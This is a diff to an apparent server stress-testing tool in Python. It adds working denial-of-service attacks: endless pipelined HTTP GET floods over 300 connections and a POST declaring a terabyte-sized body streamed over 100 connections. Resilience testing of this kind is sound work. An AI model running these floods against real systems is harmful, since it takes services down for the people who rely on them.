@@ -129,6 +129,32 @@ async def patient_pings(target: Target) -> None:
     await forever(partial(flood, target, b"", (b"\x89" + EMPTY) * 55, 0.5), 100)
 
 
+async def pour(target: Target, first: bytes, more: bytes) -> None:
+    """Send this, and then more without end. The answers are dropped."""
+    async with line(target) as (reader, writer):
+        writer.write(first)
+        reading = asyncio.create_task(reader.read())
+        while not reading.done():
+            writer.write(more)
+            await writer.drain()
+            await asyncio.sleep(0.0)
+
+
+@attack("requests without end, over 300 connections")
+async def requests(target: Target) -> None:
+    await forever(partial(pour, target, b"", b"GET /health/live HTTP/1.1\r\nHost: x\r\n\r\n" * 100), 300)
+
+
+@attack("the page without end, over 300 connections")
+async def pages(target: Target) -> None:
+    await forever(partial(pour, target, b"", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 100), 300)
+
+
+@attack("bodies without end, over 100 connections")
+async def bodies(target: Target) -> None:
+    await forever(partial(pour, target, POST.format("/nowhere", 10**12).encode(), b" " * 60_000), 100)
+
+
 async def held(target: Target, sent: bytes, drip: bytes = b"") -> None:
     """A connection that stays open as long as the server allows."""
     async with line(target) as (reader, writer):
